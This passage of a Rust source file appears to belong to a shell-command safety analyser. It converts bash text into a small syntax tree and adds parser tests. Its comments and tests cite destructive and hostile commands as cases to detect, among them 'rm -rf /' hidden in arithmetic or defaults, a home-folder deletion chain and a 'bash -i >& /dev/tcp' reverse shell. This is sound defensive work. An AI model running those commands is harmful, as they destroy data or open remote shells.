//! The adapter over the shell parser: text -> our small AST ([`Script`]). The only file that names
//! the parser crate.
//!
//! Parser choice: brush-parser (pure Rust, the parser of the brush shell, bash grammar including
//! here-docs, `$'…'`, process substitution, `[[ ]]`, extglob) over tree-sitter-bash (a C build,
//! an error-tolerant syntax tree for editors whose words we would still have to split into quotes
//! and expansions ourselves). brush gives both the command grammar and a word parser (quotes,
//! `$VAR`, `${…}`, `$(…)`, backticks). Its recursive descent is guarded by [`nesting_depth`]:
//! text nested deeper than [`MAX_SYNTAX_NESTING`] is never handed to it.

use super::quote::decode_ansi_c;
use brush_parser::ast;
use brush_parser::word::{self as bword, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{Parser, ParserOptions};

/// How deeply brackets and compound keywords may nest before the text is refused unparsed.
pub(crate) const MAX_SYNTAX_NESTING: usize = 64;

/// A parsed command text: every pipeline in textual order (through `;`, `&&`, `||`, `&`).
#[derive(Debug, Clone, Default)]
pub(crate) struct Script {
    pub(crate) pipelines: Vec<Pipeline>,
}

/// Commands joined by `|`.
#[derive(Debug, Clone)]
pub(crate) struct Pipeline {
    pub(crate) stages: Vec<Stage>,
    /// `! a | b`: its status is inverted.
    pub(crate) negated: bool,
}

impl Pipeline {
    /// A pipeline of one compound command.
    pub(crate) fn of_group(group: Group) -> Self {
        Pipeline {
            stages: vec![Stage::Group(group)],
            negated: false,
        }
    }
}

/// One stage of a pipeline.
#[derive(Debug, Clone)]
pub(crate) enum Stage {
    Simple(Simple),
    /// A compound command (subshell, group, if, loops, case, function definition, `[[ ]]`,
    /// `(( ))`), flattened: its words, then every command of its bodies in textual order.
    Group(Group),
}

/// A compound command, flattened.
#[derive(Debug, Clone, Default)]
pub(crate) struct Group {
    /// Words evaluated for their side effects (`for` values, `case` value, `[[ ]]` operands).
    pub(crate) words: Vec<Word>,
    /// Variables the construct sets to run-time values (`for X in …`).
    pub(crate) loop_vars: Vec<String>,
    /// `for X; do …`: the loop runs over the positional parameters (`words` is empty).
    pub(crate) loop_over_args: bool,
    /// A loop: a later turn of the body sees what an earlier one assigned.
    pub(crate) repeats: bool,
    pub(crate) body: Script,
    /// Alternatives after `body`, exactly one of which runs (an empty one: none of the others):
    /// the branches of `if`/`elif`/`else`, the arms of `case`. Each starts from the state `body`
    /// left; what follows sees the merge of their ends.
    pub(crate) branches: Vec<Script>,
    /// Runs in a subshell: `cd` and assignments inside do not leak out.
    pub(crate) subshell: bool,
    /// Its body may run or not, or run repeatedly (loops, what follows `&&`/`||`).
    pub(crate) conditional: bool,
    /// What follows `&&` (`Some(true)`) or `||` (`Some(false)`): it runs when the status before
    /// it is success (failure).
    pub(crate) runs_if: Option<bool>,
    pub(crate) redirects: Vec<Redirect>,
    /// A function definition: its name (the body is in `body`).
    pub(crate) function: Option<String>,
}

/// `VAR=value … program args … redirections`.
#[derive(Debug, Clone, Default)]
pub(crate) struct Simple {
    pub(crate) assignments: Vec<Assignment>,
    pub(crate) words: Vec<Word>,
    pub(crate) redirects: Vec<Redirect>,
}

/// `NAME=value`; `value` is `None` for arrays (`A=(…)`), whose elements are in `elements`.
#[derive(Debug, Clone)]
pub(crate) struct Assignment {
    pub(crate) name: String,
    pub(crate) value: Option<Word>,
    pub(crate) elements: Vec<Word>,
}

/// One shell word: its source text and its pieces.
#[derive(Debug, Clone)]
pub(crate) struct Word {
    #[allow(dead_code, reason = "shown in Debug output and read by tests")]
    pub(crate) source: String,
    pub(crate) parts: Vec<Part>,
}

/// A piece of a word. `quoted` pieces are not split or globbed.
#[derive(Debug, Clone)]
pub(crate) enum Part {
    /// Literal text, quotes and escapes removed, `$'…'` decoded.
    Text { text: String, quoted: bool },
    /// `~` (user `None`) or `~user`.
    Tilde { user: Option<String> },
    /// `$NAME` or `${NAME}`.
    Param {
        name: String,
        source: String,
        quoted: bool,
    },
    /// `$(…)` or backticks: the inner command text.
    Subst {
        script: String,
        source: String,
        quoted: bool,
    },
    /// `<(…)` / `>(…)`: its commands.
    ProcSubst { script: Box<Script>, source: String },
    /// Only known at run time (special parameters, `${X:-…}`, `$((…))`); `inner` holds pieces of
    /// the expression that run commands (`${X:-$(rm …)}`).
    Dynamic { source: String, inner: Vec<Part> },
}

/// A redirection, reduced to what it does to files or standard input.
#[derive(Debug, Clone)]
pub(crate) enum Redirect {
    /// `< file` (`fd` is the descriptor, 0 by default).
    Read { fd: i32, target: Word },
    /// `>`, `>>`, `>|`, `<>`, `&>`, `&>>`.
    Write { target: Word },
    /// A here-document (`literal` when its delimiter was quoted) or here-string: standard input.
    Input { body: Word },
    /// `< <(…)`, `> >(…)`.
    Sub { script: Box<Script> },
    /// fd duplication or closing.
    Other,
}

fn options() -> ParserOptions {
    ParserOptions::default()
}

/// Parse a command text. Errors are one line, lowercase.
pub(crate) fn parse(text: &str) -> Result<Script, String> {
    if nesting_depth(text) > MAX_SYNTAX_NESTING {
        return Err(format!("nesting deeper than {MAX_SYNTAX_NESTING} levels"));
    }
    let options = options();
    let mut parser = Parser::new(std::io::Cursor::new(text), &options);
    let program = parser
        .parse_program()
        .map_err(|e| e.to_string().to_lowercase())?;
    let src = Src::new(text);
    let mut script = Script::default();
    for complete in &program.complete_commands {
        push_list(&mut script, complete, &src);
    }
    match src.fault.into_inner() {
        Some(fault) => Err(fault),
        None => Ok(script),
    }
}

/// The text being converted, with what the conversion found it cannot read faithfully.
///
/// The parser's tokenizer can misread some spellings (a here-document inside `<((…))`: its body
/// is cut and the next word swallowed). What the conversion cannot check against the text is a
/// fault, and a text with a fault is not analysed at all: it is unparsable (review at least),
/// never analysed as the mangled commands the parser returned.
pub(crate) struct Src<'a> {
    text: &'a str,
    /// The byte offset of each character index (the parser counts characters), then the length.
    offsets: Vec<usize>,
    fault: std::cell::RefCell<Option<String>>,
}

impl<'a> Src<'a> {
    fn new(text: &'a str) -> Self {
        let offsets = text
            .char_indices()
            .map(|(i, _)| i)
            .chain(std::iter::once(text.len()))
            .collect();
        Src {
            text,
            offsets,
            fault: std::cell::RefCell::new(None),
        }
    }

    /// The text between two character indices of the parser's locations.
    fn chars(&self, start: usize, end: usize) -> Option<&'a str> {
        let (from, to) = (*self.offsets.get(start)?, *self.offsets.get(end)?);
        self.text.get(from..to)
    }

    /// Records the first fault.
    fn fault(&self, why: impl Into<String>) {
        let mut fault = self.fault.borrow_mut();
        if fault.is_none() {
            *fault = Some(why.into());
        }
    }
}

/// A crude, linear upper bound of syntactic nesting: brackets, `$(`, backticks and compound
/// keywords, quotes ignored. Text under the bound cannot overflow the parser's stack.
pub(crate) fn nesting_depth(text: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    let mut word_start = 0;
    let bytes = text.as_bytes();
    let check_word =
        |from: usize, to: usize, depth: &mut usize| match text.get(from..to).unwrap_or("") {
            "if" | "while" | "until" | "for" | "case" | "select" | "[[" => *depth += 1,
            "fi" | "done" | "esac" | "]]" => *depth = depth.saturating_sub(1),
            _ => {}
        };
    for (i, &b) in bytes.iter().enumerate() {
        let separator = b.is_ascii_whitespace() || b";&|()<>{}`".contains(&b);
        if separator {
            check_word(word_start, i, &mut depth);
            word_start = i + 1;
        }
        match b {
            b'(' | b'{' | b'[' => depth += 1,
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            b'`' => depth += 1,
            _ => {}
        }
        max = max.max(depth);
    }
    check_word(word_start, bytes.len(), &mut depth);
    max.max(depth)
}

fn push_list(script: &mut Script, list: &ast::CompoundList, src: &Src) {
    for ast::CompoundListItem(and_or, _) in &list.0 {
        script.pipelines.push(pipeline(&and_or.first, src));
        if and_or.additional.is_empty() {
            continue;
        }
        // `a && b || c`: what follows the first pipeline may or may not run (`X=~; false &&
        // X=build; rm -rf "$X"` removes the home folder). A run of one operator nests: in
        // `a && b && c`, `c` runs only after `b` (`true && cd /tmp && rm -rf x`); after the
        // operator changes, the next part may follow any of them (`a && b || c`: `c` after `a`
        // or after `b`).
        let mut runs: Vec<(bool, Vec<&ast::Pipeline>)> = Vec::new();
        let mut last_and = None;
        for next in &and_or.additional {
            let (and, p) = match next {
                ast::AndOr::And(p) => (true, p),
                ast::AndOr::Or(p) => (false, p),
            };
            match runs.last_mut() {
                Some((_, run)) if last_and == Some(and) => run.push(p),
                _ => runs.push((and, vec![p])),
            }
            last_and = Some(and);
        }
        for (and, run) in runs {
            let mut inner: Option<Group> = None;
            for p in run.iter().rev() {
                let mut group = Group {
                    conditional: true,
                    runs_if: Some(and),
                    ..Group::default()
                };
                group.body.pipelines.push(pipeline(p, src));
                if let Some(tail) = inner.take() {
                    group.body.pipelines.push(Pipeline::of_group(tail));
                }
                inner = Some(group);
            }
            if let Some(group) = inner {
                script.pipelines.push(Pipeline::of_group(group));
            }
        }
    }
}

fn list(list: &ast::CompoundList, src: &Src) -> Script {
    let mut script = Script::default();
    push_list(&mut script, list, src);
    script
}

fn pipeline(p: &ast::Pipeline, src: &Src) -> Pipeline {
    Pipeline {
        stages: p.seq.iter().map(|c| stage(c, src)).collect(),
        negated: p.bang,
    }
}

fn stage(command: &ast::Command, src: &Src) -> Stage {
    match command {
        ast::Command::Simple(simple) => Stage::Simple(simple_command(simple, src)),
        ast::Command::Compound(compound, redirects) => {
            let mut group = compound_command(compound, src);
            if let Some(ast::RedirectList(list)) = redirects {
                group
                    .redirects
                    .extend(list.iter().map(|r| redirect(r, src)));
            }
            Stage::Group(group)
        }
        ast::Command::Function(def) => {
            let ast::FunctionBody(body, redirects) = &def.body;
            let mut group = compound_command(body, src);
            group.subshell = true;
            group.function = Some(def.fname.value.clone());
            if let Some(ast::RedirectList(list)) = redirects {
                group
                    .redirects
                    .extend(list.iter().map(|r| redirect(r, src)));
            }
            Stage::Group(group)
        }
        ast::Command::ExtendedTest(test, redirects) => {
            let mut words = Vec::new();
            test_words(&test.expr, &mut words);
            let redirects = redirects
                .iter()
                .flat_map(|ast::RedirectList(list)| list.iter().map(|r| redirect(r, src)))
                .collect();
            Stage::Group(Group {
                words,
                redirects,
                ..Group::default()
            })
        }
    }
}

fn test_words(expr: &ast::ExtendedTestExpr, out: &mut Vec<Word>) {
    match expr {
        ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
            test_words(a, out);
            test_words(b, out);
        }
        ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
            test_words(a, out);
        }
        ast::ExtendedTestExpr::UnaryTest(_, w) => out.push(word(&w.value)),
        ast::ExtendedTestExpr::BinaryTest(_, a, b) => {
            out.push(word(&a.value));
            out.push(word(&b.value));
        }
    }
}

fn arithmetic_word(text: &str) -> Word {
    // Arithmetic text can hide command substitutions: `(( $(rm -rf /) ))`.
    let inner = word(text).parts;
    Word {
        source: text.to_owned(),
        parts: vec![Part::Dynamic {
            source: text.to_owned(),
            inner,
        }],
    }
}

fn compound_command(compound: &ast::CompoundCommand, src: &Src) -> Group {
    let mut group = Group::default();
    match compound {
        ast::CompoundCommand::Arithmetic(a) => {
            // brush reads `( ( cmd ) )` as `(( … ))`; bash reads it as nested subshells unless
            // the parentheses touch. Then the parser's expression is its tokens joined again
            // (here-documents and spacing lost): the written text between the outer parentheses
            // is parsed again instead, here-documents in place.
            let Some(written) = src.chars(a.loc.start.index, a.loc.end.index) else {
                src.fault("a `((` the parser located outside the text");
                return group;
            };
            if written.starts_with("((") && written.trim_end().ends_with("))") {
                group.words.push(arithmetic_word(&a.expr.value));
            } else {
                group.subshell = true;
                let inner = written
                    .strip_prefix('(')
                    .and_then(|w| w.trim_end().strip_suffix(')'));
                match inner.map(parse) {
                    Some(Ok(inner)) => group.body = inner,
                    Some(Err(e)) => src.fault(format!("nested subshells read again: {e}")),
                    None => src.fault("nested subshells whose parentheses could not be found"),
                }
            }
        }
        ast::CompoundCommand::ArithmeticForClause(f) => {
            group.conditional = true;
            group.repeats = true;
            let exprs = [&f.initializer, &f.condition, &f.updater];
            for e in exprs.into_iter().flatten() {
                group.words.push(arithmetic_word(&e.value));
            }
            group.body = list(&f.body.list, src);
        }
        ast::CompoundCommand::BraceGroup(b) => group.body = list(&b.list, src),
        ast::CompoundCommand::Subshell(s) => {
            group.body = list(&s.list, src);
            group.subshell = true;
        }
        ast::CompoundCommand::ForClause(f) => {
            group.conditional = true;
            group.repeats = true;
            match &f.values {
                Some(values) => group.words.extend(values.iter().map(|w| word(&w.value))),
                None => group.loop_over_args = true,
            }
            group.loop_vars.push(f.variable_name.clone());
            group.body = list(&f.body.list, src);
        }
        ast::CompoundCommand::CaseClause(c) => {
            group.words.push(word(&c.value.value));
            for item in &c.cases {
                group
                    .words
                    .extend(item.patterns.iter().map(|w| word(&w.value)));
            }
            group.branches = (0..c.cases.len())
                .map(|i| case_arm(&c.cases, i, src))
                .collect();
            // Without a `*)` arm, the value may match none.
            let catch_all = c
                .cases
                .iter()
                .any(|item| item.patterns.iter().any(|w| w.value == "*"));
            if !catch_all {
                group.branches.push(Script::default());
            }
        }
        ast::CompoundCommand::IfClause(i) => {
            group.body = list(&i.condition, src);
            group.branches = vec![
                list(&i.then, src),
                else_part(i.elses.as_deref().unwrap_or(&[]), src),
            ];
        }
        ast::CompoundCommand::WhileClause(w) | ast::CompoundCommand::UntilClause(w) => {
            group.conditional = true;
            group.repeats = true;
            push_list(&mut group.body, &w.0, src);
            push_list(&mut group.body, &w.1.list, src);
        }
        ast::CompoundCommand::Coprocess(c) => {
            group.body.pipelines.push(Pipeline {
                stages: vec![stage(&c.body, src)],
                negated: false,
            });
            group.subshell = true;
        }
    }
    group
}

/// What runs when an `if` condition fails: the `elif`s as a nested `if`, the `else` body, or
/// nothing.
fn else_part(elses: &[ast::ElseClause], src: &Src) -> Script {
    let Some((first, rest)) = elses.split_first() else {
        return Script::default();
    };
    match &first.condition {
        None => list(&first.body, src),
        Some(condition) => {
            let group = Group {
                body: list(condition, src),
                branches: vec![list(&first.body, src), else_part(rest, src)],
                ..Group::default()
            };
            Script {
                pipelines: vec![Pipeline::of_group(group)],
            }
        }
    }
}

/// What runs when `case` arm `i` matches: its body, then with `;&` the next arm's body, with
/// `;;&` any one of the later arms (or none).
fn case_arm(items: &[ast::CaseItem], i: usize, src: &Src) -> Script {
    let Some(item) = items.get(i) else {
        return Script::default();
    };
    let mut script = item.cmd.as_ref().map(|c| list(c, src)).unwrap_or_default();
    match item.post_action {
        ast::CaseItemPostAction::ExitCase => {}
        ast::CaseItemPostAction::UnconditionallyExecuteNextCaseItem => {
            script
                .pipelines
                .extend(case_arm(items, i + 1, src).pipelines);
        }
        ast::CaseItemPostAction::ContinueEvaluatingCases => {
            let mut branches: Vec<Script> = (i + 1..items.len())
                .map(|j| case_arm(items, j, src))
                .collect();
            branches.push(Script::default());
            script.pipelines.push(Pipeline::of_group(Group {
                branches,
                ..Group::default()
            }));
        }
    }
    script
}

fn simple_command(simple: &ast::SimpleCommand, src: &Src) -> Simple {
    let mut out = Simple::default();
    let items = simple.prefix.iter().flat_map(|p| p.0.iter());
    let mut pending_prefix = true;
    for item in items {
        prefix_or_suffix(item, &mut out, pending_prefix, src);
    }
    if let Some(w) = &simple.word_or_name {
        out.words.push(word(&w.value));
        pending_prefix = false;
    }
    for item in simple.suffix.iter().flat_map(|s| s.0.iter()) {
        prefix_or_suffix(item, &mut out, pending_prefix, src);
    }
    out
}

fn prefix_or_suffix(
    item: &ast::CommandPrefixOrSuffixItem,
    out: &mut Simple,
    prefix: bool,
    src: &Src,
) {
    match item {
        ast::CommandPrefixOrSuffixItem::IoRedirect(r) => out.redirects.push(redirect(r, src)),
        ast::CommandPrefixOrSuffixItem::Word(w) => out.words.push(word(&w.value)),
        ast::CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
            if prefix {
                out.assignments.push(assignment(a));
            } else {
                // `export X=1`: an argument of the builtin (the walker reads it as an assignment).
                out.words.push(word(&w.value));
            }
        }
        ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
            out.words.push(Word {
                source: "<(…)".to_owned(),
                parts: vec![Part::ProcSubst {
                    script: Box::new(list(&sub.list, src)),
                    source: "<(…)".to_owned(),
                }],
            });
        }
    }
}

fn assignment(a: &ast::Assignment) -> Assignment {
    // `a[$(cmd)]=1`: the subscript is arithmetic, evaluated (and its substitutions run).
    let (name, subscript) = match &a.name {
        ast::AssignmentName::VariableName(n) => (n.clone(), None),
        ast::AssignmentName::ArrayElementName(n, index) => {
            (n.clone(), Some(arithmetic_word(index)))
        }
    };
    let mut out = match &a.value {
        ast::AssignmentValue::Scalar(w) => Assignment {
            name,
            value: Some(word(&w.value)),
            elements: Vec::new(),
        },
        ast::AssignmentValue::Array(items) => Assignment {
            name,
            value: None,
            elements: items
                .iter()
                .flat_map(|(k, v)| {
                    k.iter()
                        .map(|k| arithmetic_word(&k.value))
                        .chain(std::iter::once(word(&v.value)))
                })
                .collect(),
        },
    };
    out.elements.extend(subscript);
    out
}

fn redirect(r: &ast::IoRedirect, src: &Src) -> Redirect {
    match r {
        ast::IoRedirect::File(fd, kind, target) => {
            let target = match target {
                ast::IoFileRedirectTarget::Filename(w) => word(&w.value),
                ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                    return Redirect::Sub {
                        script: Box::new(list(&sub.list, src)),
                    };
                }
                // `>&WORD` where WORD is not a descriptor sends both outputs to the file WORD
                // (`bash -i >& /dev/tcp/h/p`).
                ast::IoFileRedirectTarget::Duplicate(w)
                    if !w
                        .value
                        .trim_end_matches('-')
                        .chars()
                        .all(|c| c.is_ascii_digit()) =>
                {
                    let target = word(&w.value);
                    return match kind {
                        ast::IoFileRedirectKind::DuplicateInput => Redirect::Read {
                            fd: fd.unwrap_or(0),
                            target,
                        },
                        _ => Redirect::Write { target },
                    };
                }
                ast::IoFileRedirectTarget::Fd(_) | ast::IoFileRedirectTarget::Duplicate(_) => {
                    return Redirect::Other;
                }
            };
            match kind {
                ast::IoFileRedirectKind::Read => Redirect::Read {
                    fd: fd.unwrap_or(0),
                    target,
                },
                ast::IoFileRedirectKind::Write
                | ast::IoFileRedirectKind::Append
                | ast::IoFileRedirectKind::ReadAndWrite
                | ast::IoFileRedirectKind::Clobber => Redirect::Write { target },
                ast::IoFileRedirectKind::DuplicateInput
                | ast::IoFileRedirectKind::DuplicateOutput => Redirect::Other,
            }
        }
        ast::IoRedirect::OutputAndError(w, _) => Redirect::Write {
            target: word(&w.value),
        },
        ast::IoRedirect::HereString(_, w) => Redirect::Input {
            body: word(&w.value),
        },
        ast::IoRedirect::HereDocument(_, doc) => {
            if let Err(why) = heredoc_in_place(doc, src) {
                src.fault(why);
            }
            let body = if doc.requires_expansion {
                match bword::parse_heredoc(&doc.doc.value, &options()) {
                    Ok(pieces) => Word {
                        source: doc.doc.value.clone(),
                        parts: parts(&doc.doc.value, &pieces, true),
                    },
                    Err(_) => unknown_word(&doc.doc.value),
                }
            } else {
                literal_word(&doc.doc.value)
            };
            Redirect::Input { body }
        }
    }
}

/// Checks a here-document the parser returned against the text: its body must start a line,
/// be the written lines (leading tabs removed for `<<-`), and be followed by a line holding just
/// its delimiter (or the end of the text). The parser's tokenizer misreads some spellings (a
/// here-document inside `<((…))`), and the commands around a misread body are mangled too.
fn heredoc_in_place(doc: &ast::IoHereDocument, src: &Src) -> Result<(), String> {
    let misread = |what: &str| format!("a here-document misread by the parser ({what})");
    let span = doc.doc.loc.as_ref().ok_or_else(|| misread("no location"))?;
    let (start, end) = (span.start.index, span.end.index);
    let before = start
        .checked_sub(1)
        .and_then(|i| src.chars(i, start))
        .ok_or_else(|| misread("no line before its body"))?;
    if before != "\n" {
        return Err(misread("its body does not start a line"));
    }
    let written = src
        .chars(start, end)
        .ok_or_else(|| misread("its body is outside the text"))?;
    let strip = |line: &str| -> String {
        if doc.remove_tabs {
            line.trim_start_matches('\t').to_owned()
        } else {
            line.to_owned()
        }
    };
    // The parser's span holds the body and then the delimiter line.
    let written: String = written.split_inclusive('\n').map(strip).collect();
    let delimiter_line = written
        .strip_prefix(doc.doc.value.as_str())
        .ok_or_else(|| misread("its body differs from the written lines"))?;
    let delimiter: String = doc
        .here_end
        .value
        .chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
        .collect();
    if delimiter_line.strip_suffix('\n').unwrap_or(delimiter_line) != delimiter {
        return Err(misread("its delimiter line is not where the body ends"));
    }
    Ok(())
}

fn literal_word(text: &str) -> Word {
    Word {
        source: text.to_owned(),
        parts: vec![Part::Text {
            text: text.to_owned(),
            quoted: true,
        }],
    }
}

fn unknown_word(text: &str) -> Word {
    Word {
        source: text.to_owned(),
        parts: vec![Part::Dynamic {
            source: text.to_owned(),
            inner: Vec::new(),
        }],
    }
}

/// Split one word's source into parts (a word the word parser rejects is wholly dynamic).
pub(crate) fn word(source: &str) -> Word {
    // bash expands a `~` right after the `=` of a word shaped like an assignment, even as a
    // command's argument (`dd of=~/x` writes under the home; `--x=~/y` stays literal).
    if let Some((name, rest)) = source.split_once('=')
        && rest.starts_with('~')
        && super::normalize::is_name(name)
    {
        let mut value = word(rest);
        value.parts.insert(
            0,
            Part::Text {
                text: format!("{name}="),
                quoted: false,
            },
        );
        value.source = source.to_owned();
        return value;
    }
    match bword::parse(source, &options()) {
        Ok(pieces) => Word {
            source: source.to_owned(),
            parts: parts(source, &pieces, false),
        },
        Err(_) => unknown_word(source),
    }
}

fn slice(source: &str, piece: &WordPieceWithSource) -> String {
    source
        .get(piece.start_index..piece.end_index)
        .unwrap_or("")
        .to_owned()
}

fn parts(source: &str, pieces: &[WordPieceWithSource], quoted: bool) -> Vec<Part> {
    let mut out = Vec::with_capacity(pieces.len());
    for piece in pieces {
        let text = slice(source, piece);
        match &piece.piece {
            WordPiece::Text(t) => out.push(Part::Text {
                text: t.clone(),
                quoted,
            }),
            WordPiece::SingleQuotedText(t) => out.push(Part::Text {
                text: t.clone(),
                quoted: true,
            }),
            WordPiece::AnsiCQuotedText(t) => out.push(Part::Text {
                text: decode_ansi_c(t),
                quoted: true,
            }),
            WordPiece::EscapeSequence(t) => {
                let escaped: String = t.chars().skip(1).filter(|c| *c != '\n').collect();
                out.push(Part::Text {
                    text: escaped,
                    quoted: true,
                });
            }
            WordPiece::DoubleQuotedSequence(inner)
            | WordPiece::GettextDoubleQuotedSequence(inner) => {
                // Inner indices are relative to the same source string.
                out.extend(parts(source, inner, true));
                if inner.is_empty() {
                    out.push(Part::Text {
                        text: String::new(),
                        quoted: true,
                    });
                }
            }
            WordPiece::TildeExpansion(t) => out.push(match t {
                bword::TildeExpr::Home => Part::Tilde { user: None },
                bword::TildeExpr::UserHome(u) => Part::Tilde {
                    user: Some(u.clone()),
                },
                _ => Part::Dynamic {
                    source: text,
                    inner: Vec::new(),
                },
            }),
            WordPiece::ParameterExpansion(expr) => out.push(parameter(expr, text, quoted)),
            WordPiece::CommandSubstitution(script) => out.push(Part::Subst {
                script: script.clone(),
                source: text,
                quoted,
            }),
            WordPiece::BackquotedCommandSubstitution(script) => out.push(Part::Subst {
                script: script.replace("\\\\", "\\").replace("\\$", "$"),
                source: text,
                quoted,
            }),
            WordPiece::ArithmeticExpression(expr) => out.push(Part::Dynamic {
                source: text,
                inner: word(&expr.value).parts,
            }),
        }
    }
    out
}

fn parameter(expr: &ParameterExpr, source: String, quoted: bool) -> Part {
    if let ParameterExpr::Parameter {
        parameter,
        indirect: false,
    } = expr
    {
        // Named and positional parameters, and `$@`/`$*`: known inside a function call.
        let name = match parameter {
            bword::Parameter::Named(name) => Some(name.clone()),
            bword::Parameter::Positional(n) => Some(n.to_string()),
            bword::Parameter::Special(bword::SpecialParameter::AllPositionalParameters {
                ..
            }) => Some("@".to_owned()),
            _ => None,
        };
        if let Some(name) = name {
            return Part::Param {
                name,
                source,
                quoted,
            };
        }
    }
    // Anything else is run-time; words inside it (defaults, patterns) may run commands.
    let texts: Vec<&String> = match expr {
        ParameterExpr::UseDefaultValues { default_value, .. }
        | ParameterExpr::AssignDefaultValues { default_value, .. } => {
            default_value.iter().collect()
        }
        ParameterExpr::UseAlternativeValue {
            alternative_value, ..
        } => alternative_value.iter().collect(),
        ParameterExpr::IndicateErrorIfNullOrUnset { error_message, .. } => {
            error_message.iter().collect()
        }
        ParameterExpr::RemoveSmallestSuffixPattern { pattern, .. }
        | ParameterExpr::RemoveLargestSuffixPattern { pattern, .. }
        | ParameterExpr::RemoveSmallestPrefixPattern { pattern, .. }
        | ParameterExpr::RemoveLargestPrefixPattern { pattern, .. }
        | ParameterExpr::UppercaseFirstChar { pattern, .. }
        | ParameterExpr::UppercasePattern { pattern, .. }
        | ParameterExpr::LowercaseFirstChar { pattern, .. }
        | ParameterExpr::LowercasePattern { pattern, .. } => pattern.iter().collect(),
        ParameterExpr::ReplaceSubstring {
            pattern,
            replacement,
            ..
        } => std::iter::once(pattern).chain(replacement.iter()).collect(),
        _ => Vec::new(),
    };
    let mut inner = Vec::new();
    for text in texts {
        inner.extend(word(text).parts);
    }
    // Indexes and offsets are arithmetic, which may also hide substitutions.
    let tail = source.get(2..).unwrap_or("");
    if tail.contains("$(") || tail.contains('`') {
        inner.extend(word(tail.trim_end_matches('}')).parts);
    }
    Part::Dynamic { source, inner }
}

/// At most this many words come out of one brace expansion.
const MAX_BRACE_WORDS: usize = 256;

/// Brace expansion as bash does it first (`{a,b}`, `{1..3}`, nesting, prefixes and suffixes):
/// `None` when the word has no unquoted brace, `Err` when it would make too many words.
pub(crate) fn brace_expand(w: &Word) -> Option<Result<Vec<Word>, ()>> {
    // The brace and its comma may be in different pieces (`{$PWD/a,$PWD/b}`).
    let unquoted = |test: fn(&str) -> bool| {
        w.parts
            .iter()
            .any(|p| matches!(p, Part::Text { text, quoted: false } if test(text)))
    };
    if !unquoted(|t| t.contains('{')) || !unquoted(|t| t.contains(',') || t.contains("..")) {
        return None;
    }
    let pieces = bword::parse_brace_expansions(&w.source, &options()).ok()??;
    if pieces
        .iter()
        .all(|p| matches!(p, bword::BraceExpressionOrText::Text(_)))
    {
        return None;
    }
    Some(brace_words(&pieces).map(|texts| texts.iter().map(|t| word(t)).collect()))
}

fn brace_words(pieces: &[bword::BraceExpressionOrText]) -> Result<Vec<String>, ()> {
    let mut out = vec![String::new()];
    for piece in pieces {
        let alternatives = match piece {
            bword::BraceExpressionOrText::Text(t) => vec![t.clone()],
            bword::BraceExpressionOrText::Expr(members) => {
                let mut alts = Vec::new();
                for m in members {
                    alts.extend(brace_member(m)?);
                }
                alts
            }
        };
        if out.len().saturating_mul(alternatives.len()) > MAX_BRACE_WORDS {
            return Err(());
        }
        out = out
            .iter()
            .flat_map(|prefix| alternatives.iter().map(move |a| format!("{prefix}{a}")))
            .collect();
    }
    Ok(out)
}

fn brace_member(m: &bword::BraceExpressionMember) -> Result<Vec<String>, ()> {
    match m {
        bword::BraceExpressionMember::NumberSequence {
            start,
            end,
            increment,
        } => {
            let step = increment.unsigned_abs().max(1);
            let count = start.abs_diff(*end) / step + 1;
            if count > MAX_BRACE_WORDS as u64 {
                return Err(());
            }
            let mut out = Vec::new();
            let mut n = *start;
            for _ in 0..count {
                out.push(n.to_string());
                n = if start <= end {
                    n.saturating_add(i64::try_from(step).map_err(|_| ())?)
                } else {
                    n.saturating_sub(i64::try_from(step).map_err(|_| ())?)
                };
            }
            Ok(out)
        }
        bword::BraceExpressionMember::CharSequence {
            start,
            end,
            increment,
        } => {
            let (a, b) = (u32::from(*start), u32::from(*end));
            let step = u32::try_from(increment.unsigned_abs().max(1)).map_err(|_| ())?;
            let (lo, hi) = (a.min(b), a.max(b));
            let mut out: Vec<String> = (lo..=hi)
                .step_by(step as usize)
                .filter_map(char::from_u32)
                .map(String::from)
                .collect();
            if a > b {
                out.reverse();
            }
            if out.len() > MAX_BRACE_WORDS {
                return Err(());
            }
            Ok(out)
        }
        bword::BraceExpressionMember::Child(pieces) => brace_words(pieces),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(text: &str) -> String {
        let script = parse(text).unwrap();
        script
            .pipelines
            .iter()
            .map(|p| {
                p.stages
                    .iter()
                    .map(|s| match s {
                        Stage::Simple(s) => s
                            .words
                            .iter()
                            .map(|w| w.source.clone())
                            .collect::<Vec<_>>()
                            .join(" "),
                        Stage::Group(g) => {
                            let mut counts = vec![g.body.pipelines.len().to_string()];
                            counts.extend(g.branches.iter().map(|b| b.pipelines.len().to_string()));
                            format!("{{{}}}", counts.join("|"))
                        }
                    })
                    .collect::<Vec<_>>()
                    .join(" | ")
            })
            .collect::<Vec<_>>()
            .join(" ; ")
    }

    #[test]
    fn structure_table() {
        let cases: &[(&str, &str)] = &[
            ("ls -la", "ls -la"),
            // What follows `&&`/`||` is a conditional body.
            ("a && b || c; d & e", "a ; {1} ; {1} ; d ; e"),
            // A run of one operator nests.
            ("a && b && c || d", "a ; {2} ; {1}"),
            ("a | b | c", "a | b | c"),
            ("(a; b) | c", "{2} | c"),
            // Branches are alternatives; `elif` is an `if` nested in the else part.
            ("if a; then b; elif c; then d; else e; fi", "{1|1|1}"),
            ("if a; then b; c; fi", "{1|2|0}"),
            ("case x in a) b;; c) d; e;; esac", "{0|1|2|0}"),
            ("case x in a) b;& c) d;; *) e;; esac", "{0|2|1|1}"),
            ("case x in a) b;;& c) d;; esac", "{0|2|1|0}"),
            ("for f in *.rs; do wc -l \"$f\"; done", "{1}"),
            ("f() { rm x; }", "{1}"),
            ("ls # rm -rf /", "ls"),
            ("X=1 Y=2", ""),
        ];
        for (text, want) in cases {
            assert_eq!(shape(text), *want, "{text}");
        }
    }

    /// The simple commands a text runs, outermost first, each as its words' sources, with the
    /// here-document or here-string it reads after `<<`.
    fn commands(script: &Script, out: &mut Vec<String>) {
        for stage in script.pipelines.iter().flat_map(|p| &p.stages) {
            match stage {
